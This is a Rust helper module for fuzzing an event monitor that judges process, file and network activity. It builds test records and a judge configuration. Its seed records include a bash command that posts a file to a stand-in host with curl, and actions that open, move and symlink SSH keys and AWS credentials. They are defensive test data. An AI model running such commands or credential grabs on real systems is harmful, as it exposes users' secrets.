//! What the targets share: input as records, a host that knows nothing, and the records that a search starts from.
//!
//! An input is a row of chunks: two bytes length, then the chunk. A chunk becomes a record of the length that it has
//! and of a kind that exists, so that the fuzzer's time goes into bodies and tails and not into finding headers.

use std::{path::Path, sync::Arc};

use mcp_monitor::{
    event::{Process, ProcessKey, SegmentId, Workload, WorkloadKind},
    expectation::{Judge, JudgeConfig, Monitor},
    host::{
        attribute::Attributor, clock::Clock, procfs::ProcessSource, users::Users,
    },
};
use mcp_monitor_common::record::{
    DnsBody, ExecBody, FileBody, FileIdentity, ForkBody, NetworkBody, PathSlice, RecordHeader, RecordKind,
    SegmentBody, Slice, SnoopBody,
};

/// Names a folder; a target that records feed writes its first inputs there.
const SEEDS_VARIABLE: &str = "MCP_MONITOR_FUZZ_SEEDS";
/// The segment that a workload is assigned to.
const SEGMENT: u64 = 7;
/// Records of one input; more would only make it slow.
const RECORDS_MAX: usize = 32;

/// The records of an input.
pub fn records(mut input: &[u8]) -> Vec<Vec<u8>> {
    let mut records = Vec::new();
    while let [low, high, rest @ ..] = input
        && records.len() < RECORDS_MAX
    {
        let length = usize::from(u16::from_le_bytes([*low, *high])).min(rest.len());
        let (chunk, after) = rest.split_at(length);
        records.push(record(chunk));
        input = after;
    }
    records
}

/// The chunk as a record: at least as long as its kind must be, and of a segment that is mostly the watched one.
fn record(chunk: &[u8]) -> Vec<u8> {
    let mut bytes = chunk.to_vec();
    let header_bytes = size_of::<RecordHeader>();
    bytes.resize(bytes.len().max(header_bytes), 0);
    let number = usize::from(bytes[4]) % (RecordKind::ALL.len() + 1);
    // One number above the last kind stays unknown.
    let kind = RecordKind::ALL.get(number).copied();
    bytes.resize(bytes.len().max(header_bytes + kind.map_or(0, RecordKind::body_bytes)), 0);
    let length = u32::try_from(bytes.len()).expect("a chunk is at most 64 KiB");
    bytes[..4].copy_from_slice(&length.to_le_bytes());
    bytes[4..6].copy_from_slice(&kind.map_or(u16::MAX, |kind| kind as u16).to_le_bytes());
    let segment = std::mem::offset_of!(RecordHeader, segment);
    if bytes[segment] & 1 == 1 {
        bytes[segment..segment + 8].copy_from_slice(&SEGMENT.to_le_bytes());
    }
    bytes
}

struct NoProcfs;

impl ProcessSource for NoProcfs {
    fn process(&self, _: ProcessKey) -> Option<Process> {
        None
    }
}

/// A stage that asks nothing of this host, with one workload.
pub fn attributor(kind: WorkloadKind) -> Attributor {
    let clock = Clock::booted_at("2026-01-02T03:04:05Z".parse().expect("a time"));
    let mut attributor = Attributor::new(clock, Box::new(NoProcfs), Users::new("/nonexistent"));
    let workload = Workload { id: "w".into(), instance: "i".into(), kind, name: "demo".into(), ..Workload::default() };
    attributor.assign(SegmentId(SEGMENT), Arc::new(workload));
    attributor
}

/// A judge of some usual host.
pub fn judge() -> Judge {
    let config = JudgeConfig {
        homes: vec!["/home/u".into()],
        resolvers: vec!["127.0.0.53".parse().expect("an address")],
        hosts: "127.0.0.1 localhost\n10.1.2.3 inside.example\n".into(),
        allow_egress: vec!["api.github.com:443".parse().expect("a destination")],
        allow_read: vec!["/srv/data".into()],
        allow_secrets: Vec::new(),
        monitor: Monitor::default(),
    };
    Judge::new(config).expect("the data files are right")
}

/// Where the environment asks for it, writes what the kernel sends for usual deeds, one file a deed and one with all.
pub fn write_seeds() {
    let Some(folder) = std::env::var_os(SEEDS_VARIABLE) else { return };
    let deeds = deeds();
    let all: Vec<u8> = deeds.iter().flat_map(|(_, chunk)| chunk.clone()).collect();
    for (name, bytes) in deeds.iter().map(|(name, bytes)| (*name, bytes)).chain([("all", &all)]) {
        std::fs::write(Path::new(&folder).join(name), bytes).expect("the folder of seeds can be written");
    }
}

fn deeds() -> Vec<(&'static str, Vec<u8>)> {
    let inode = |inode| FileIdentity { inode, device: 0x80_0001, generation: 3 };
    let file = |kind, path: &str, target: &str, access| {
        let mut deed = Deed::default();
        let (path, target) = (deed.path(path), deed.path(target));
        let body = FileBody {
            path,
            target,
            access,
            file: inode(9),
            mode: 0o100_644,
            links: 1,
            ..FileBody::default()
        };
        deed.chunk(kind, &body)
    };
    let network = |kind, socket_type, port, path: &str| {
        let mut deed = Deed::default();
        let unix_path = deed.path(path);
        let family = if path.is_empty() { 2 } else { 1 };
        let mut remote_address = [0; 16];
        remote_address[10..].copy_from_slice(&[0xff, 0xff, 140, 82, 112, 5]);
        let body = NetworkBody {
            remote_address,
            remote_port: port,
            family,
            socket_type,
            unix_path,
            ..NetworkBody::default()
        };
        deed.chunk(kind, &body)
    };
    let exec = |path: &str, arguments: &[u8]| {
        let mut deed = Deed::default();
        let body = ExecBody {
            executable: inode(5),
            uid: 1000,
            euid: 1000,
            login_uid: u32::MAX,
            links: 1,
            path: deed.path(path),
            working_directory: deed.path("/home/u/work"),
            cgroup_path: deed.path("/user.slice/a.scope"),
            given_name: deed.slice(path.as_bytes()),
            arguments: deed.slice(arguments),
            arguments_bytes: u32::try_from(arguments.len()).expect("short"),
            tty: deed.slice(b"pts0"),
            ..ExecBody::default()
        };
        deed.chunk(RecordKind::Exec, &body)
    };
    let dns = || {
        let mut deed = Deed::default();
        let mut server_address = [0; 16];
        server_address[10..].copy_from_slice(&[0xff, 0xff, 127, 0, 0, 53]);
        let answer = deed.slice(
            b"\0\x07\x81\x80\0\x01\0\x01\0\0\0\0\x03api\x06github\x03com\0\0\x01\0\x01\
              \xc0\x0c\0\x01\0\x01\0\0\0\x3c\0\x04\x8c\x52\x70\x05",
        );
        let answer_bytes = u32::from(answer.length_bytes);
        let body = DnsBody { server_address, server_port: 53, answer, answer_bytes, ..DnsBody::default() };
        deed.chunk(RecordKind::Dns, &body)
    };
    let fork = ForkBody { child_tgid: 200, child_start_boottime_ns: 2, child_exec_id: 1 };
    vec![
        ("exec", exec("/usr/bin/node", b"node\0/home/u/server.js\0--token\0secret\0")),
        ("exec-shell", exec("/bin/bash", b"bash\0-c\0curl -d @x https://h\0")),
        ("fork", Deed::default().chunk(RecordKind::Fork, &fork)),
        ("open-secret", file(RecordKind::Open, "/home/u/.ssh/id_rsa", "", 1)),
        ("open-write", file(RecordKind::Open, "/home/u/.bashrc", "", 2)),
        ("open-socket", file(RecordKind::Open, "/var/run/docker.sock", "", 3)),
        ("rename", file(RecordKind::Rename, "/home/u/.ssh/id_rsa", "/tmp/x", 0)),
        ("symlink", file(RecordKind::Symlink, "/tmp/y", "/home/u/.aws/credentials", 0)),
        ("chmod", file(RecordKind::Chmod, "/tmp/x", "", 0)),
        ("dns", dns()),
        ("connect", network(RecordKind::Connect, 1, 443, "")),
        ("connect-unix", network(RecordKind::Connect, 1, 0, "/run/docker.sock")),
        ("send", network(RecordKind::Send, 2, 53, "")),
        ("listen", network(RecordKind::Listen, 1, 8080, "")),
        ("close", network(RecordKind::Close, 1, 443, "")),
        ("snoop", Deed::default().chunk(RecordKind::Snoop, &SnoopBody::default())),
        ("segment", Deed::default().chunk(RecordKind::Segment, &SegmentBody { parent: SEGMENT })),
    ]
}

/// The tail of a record that is being made.
#[derive(Default)]
struct Deed(Vec<u8>);

impl Deed {
    fn slice(&mut self, bytes: &[u8]) -> Slice {
        let short = |number: usize| u16::try_from(number).expect("a seed is short");
        let slice = Slice { offset: short(self.0.len()), length_bytes: short(bytes.len()) };
        self.0.extend_from_slice(bytes);
        slice
    }

    fn path(&mut self, path: &str) -> PathSlice {
        let names: Vec<&str> = path.rsplit('/').filter(|name| !name.is_empty()).collect();
        let bytes: String = names.iter().flat_map(|name| [*name, "\0"]).collect();
        let components = u16::try_from(names.len()).expect("a seed is short");
        PathSlice { bytes: self.slice(bytes.as_bytes()), flags: 0, components }
    }

    fn chunk<Body: Copy>(self, kind: RecordKind, body: &Body) -> Vec<u8> {
        let number = RecordKind::ALL.iter().position(|of| *of == kind).and_then(|at| u16::try_from(at).ok());
        let header = RecordHeader {
            size_bytes: 0,
            kind: number.expect("every kind is in ALL"),
            flags: 0,
            lane: 0,
            mechanism: 0,
            sequence: 1,
            boot_ns: 1_000_000_000,
            segment: SEGMENT,
            start_boottime_ns: 500_000_000,
            tgid: 100,
            tid: 100,
            exec_id: 1,
            count: 1,
        };
        let record = [plain(&header), plain(body), &self.0].concat();
        let length = u16::try_from(record.len()).expect("a seed is short");
        [&length.to_le_bytes()[..], &record].concat()
    }
}

fn plain<T: Copy>(value: &T) -> &[u8] {
    // SAFETY: used with the wire's types only, whose padding is explicit, so that every byte is initialised.
    unsafe { std::slice::from_raw_parts(std::ptr::from_ref(value).cast(), size_of::<T>()) }
}
